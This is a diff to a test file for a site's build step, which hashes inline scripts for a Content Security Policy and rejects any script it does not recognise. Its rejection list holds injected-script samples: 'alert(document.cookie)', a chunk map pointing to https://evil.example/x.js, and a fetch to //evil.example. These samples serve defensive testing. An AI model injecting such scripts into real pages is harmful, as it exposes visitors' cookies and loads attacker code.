@@ -7,6 +7,7 @@ import fs from "node:fs";
 import path from "node:path";
 import { cspHash, findScripts, isExecutableInline, pageScriptHashes } from "../../plugins/publish/inline-scripts";
 import { bundleLoader } from "../../plugins/publish/page-scripts";
+import { SPINNER_SCRIPT } from "../../src/components/layout/spinner-script";
 
 // The inline scripts of a built page: gatsby-plugin-image's two as they are (from a build), Gatsby's chunk map and
 // compilation hash, and the bundle loader.
@@ -75,12 +76,19 @@ describe("pageScriptHashes", () => {
     expect(hashes).not.toContain(cspHash(jsonLd));
   });
 
+  it("admits the spinner's script, which every page has", () => {
+    const hashes = pageScriptHashes(page(`<div id="spinner"></div><script>${SPINNER_SCRIPT}</script>`), "index.html");
+    expect(hashes).toEqual(expect.arrayContaining([...gatsbyHashes, cspHash(SPINNER_SCRIPT)]));
+    expect(hashes).toHaveLength(gatsbyHashes.length + 1);
+  });
+
   it("stops the build on any other inline script, naming the page and the script", () => {
     for (const script of [
       "alert(document.cookie)",
       'window.___chunkMapping="{\\"app\\":[\\"https://evil.example/x.js\\"]}";',
       'window.___webpackCompilationHash="1";fetch("//evil.example")',
       bundleLoader() + ";",
+      SPINNER_SCRIPT.replace("500", "5e9"),
     ]) {
       expect(() => pageScriptHashes(page(`<script>${script}</script>`), "terms.html")).toThrow(
         new RegExp(
